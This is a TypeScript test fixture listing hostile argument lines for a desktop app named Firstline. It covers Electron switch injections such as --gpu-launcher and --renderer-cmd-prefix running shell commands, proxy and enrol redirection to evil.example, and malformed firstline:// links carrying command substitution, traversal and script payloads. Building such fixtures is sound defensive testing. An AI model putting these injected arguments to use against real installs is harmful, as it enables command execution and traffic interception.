/** Command lines that somebody else wrote: what a page, a mail or another program may bring along with a link. */

export const GOOD_ID = '0199e1a4-7c11-7b52-8d3e-0c5f1f6a2b77';

/** What a hostile line tries to say beside its link, one word or several. */
const INJECTED: readonly (readonly string[])[] = [
  // CVE-2018-1000006 and its kin: switches that start a program, or write or read where they like.
  ['--gpu-launcher=cmd.exe /c start calc'],
  ['--gpu-launcher', 'calc'],
  ['--renderer-cmd-prefix=/bin/sh -c id'],
  ['--utility-cmd-prefix=/bin/sh -c id'],
  ['--ppapi-plugin-launcher=calc'],
  ['--browser-subprocess-path=\\\\evil\\share\\x.exe'],
  ['--no-sandbox'],
  ['-no-sandbox'],
  [' --no-sandbox'],
  ['--disable-web-security'],
  ['--inspect=0.0.0.0:9229'],
  ['--inspect-brk'],
  ['--remote-debugging-port=9222', '--remote-allow-origins=*'],
  ['--load-extension=/tmp/x'],
  ['--js-flags=--expose-gc'],
  ['--host-rules=MAP * evil.example'],
  ['--proxy-server=evil.example:8080'],
  ['--proxy-pac-url=http://evil.example/p'],
  ['--ignore-certificate-errors'],
  ['--ssl-key-log-file=/tmp/keys'],
  ['--log-file=/home/amira/.bashrc', '--enable-logging=file'],
  ['--log-net-log=/tmp/net'],
  ['--user-data-dir=/tmp/other'],
  ['--require=/tmp/x.js'],
  ['-r', '/tmp/x.js'],
  ['--unheard-of-switch'],
  ['/gpu-launcher=calc'],
  // Our own words: another server, another folder, no window.
  ['--server', 'https://evil.example', '--token', 'fle_x'],
  ['--server=https://evil.example', '--token=fle_x'],
  ['--data=/tmp/evil'],
  ['--data', '\\\\evil\\share'],
  ['--hidden'],
  ['--no-probes'],
  ['--link=abcdef'],
  ['--again'],
  ['enrol'],
];

/** Links that are none of ours, or want more than to be shown. */
const LINKS: readonly string[] = [
  'firstline://',
  'firstline:',
  'firstline:ticket/x',
  'FIRSTLINE://ticket/x',
  'firstline://enrol?server=https://evil.example&token=x',
  'firstline://approve/0199e1a4-7c11-7b52-8d3e-0c5f1f6a2b77',
  'firstline://settings/proxy=evil',
  'firstline://ticket/',
  'firstline://ticket/1042',
  'firstline://ticket/FL-1042',
  'firstline://ticket/..',
  'firstline://ticket/%2e%2e/settings',
  `firstline://ticket/${GOOD_ID}?allow=1`,
  `firstline://ticket/${GOOD_ID}#allow`,
  `firstline://ticket/${GOOD_ID}/allow`,
  `firstline://ticket/${GOOD_ID}%00`,
  `firstline://ticket/${GOOD_ID}\n`,
  `firstline://ticket/${GOOD_ID}\u202e`,
  `firstline://ticket/${GOOD_ID.toUpperCase()}`,
  `firstline://ticket/${GOOD_ID.replace('-7b', '-4b')}`,
  `firstline://ticket/${GOOD_ID.replace('-8d', '-cd')}`,
  `firstline://user:pass@ticket/${GOOD_ID}`,
  `firstline://ticket:80/${GOOD_ID}`,
  `firstline:///ticket/${GOOD_ID}`,
  `firstline:\\\\ticket\\${GOOD_ID}`,
  `firstline://ticket//${GOOD_ID}`,
  `firstline://TICKET/${GOOD_ID}`,
  ` firstline://ticket/${GOOD_ID}`,
  `"firstline://ticket/${GOOD_ID}"`,
  `firstline://ticket/${GOOD_ID}" --no-sandbox`,
  `firstline://ticket/${GOOD_ID}' ; id ; '`,
  `firstline://ticket/${GOOD_ID}|id`,
  `firstline://ticket/${GOOD_ID}\`id\``,
  `firstline://ticket/$(id)`,
  'firstline://ticket/<script>alert(1)</script>',
  'firstline://ticket/{{7*7}}',
  'javascript:alert(1)//firstline://ticket/x',
  `https://firstline://ticket/${GOOD_ID}`,
  `file:///firstline:/ticket/${GOOD_ID}`,
  `firstline-console://ticket/${GOOD_ID}`,
  `firstline-evil://ticket/${GOOD_ID}`,
  `firstline.evil://ticket/${GOOD_ID}`,
  `firstline://ticket/${'0'.repeat(10_000)}`,
  `firstline://${'a/'.repeat(5_000)}`,
  'firstline://ticket/\u0000',
  'firstline://ticket/١٠٤٢',
];

export interface HostileLine {
  readonly argv: readonly string[];
  /** The words that would act, were they read. */
  readonly injected: readonly string[];
}

const program = '/opt/Firstline/firstline';

/** Every bad link alone, and every word beside a good and a bad link: before it, behind it, and behind `--`. */
export const hostileLines: readonly HostileLine[] = [
  ...LINKS.map((link) => ({ argv: [program, link], injected: [] })),
  ...INJECTED.flatMap((injected) =>
    [`firstline://ticket/${GOOD_ID}`, 'firstline://x'].flatMap((link) => [
      { argv: [program, ...injected, link], injected },
      { argv: [program, link, ...injected], injected },
      { argv: [program, '--', link, ...injected], injected },
    ]),
  ),
];
